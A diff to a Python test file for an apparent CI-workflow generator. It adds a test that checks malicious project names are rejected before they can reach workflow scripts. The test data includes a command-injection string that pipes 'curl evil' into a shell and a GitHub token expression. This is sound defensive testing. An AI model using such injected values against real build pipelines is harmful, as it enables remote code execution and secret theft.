@@ -8,6 +8,7 @@ comparison with maturin's own generator runs maturin when it is installed.
 
 from __future__ import annotations
 
+import json
 import re
 import shlex
 import shutil
@@ -296,3 +297,19 @@ def test_same_targets_as_maturin(
     if "emscripten" in theirs:
         assert theirs.pop("emscripten") and ours.pop("emscripten") == {"wasm32"}
     assert ours == theirs
+
+
+@pytest.mark.parametrize("name", ['x"; curl evil | sh; "', "a b", "${{ github.token }}"])
+def test_hostile_project_name_is_refused(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The name lands in the workflow's scripts: anything but a distribution name is refused."""
+    repo, _ = make_repo(tmp_path, "bin-hello")
+    pyproject = repo / "pyproject.toml"
+    pyproject.write_text(pyproject.read_text().replace('"bin-hello"', json.dumps(name)))
+    monkeypatch.chdir(repo)
+    out = repo / "ci.yml"
+    assert main(["generate-ci", "github", "-o", str(out)]) == 8
+    assert not out.exists()
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "not a valid distribution name" in err
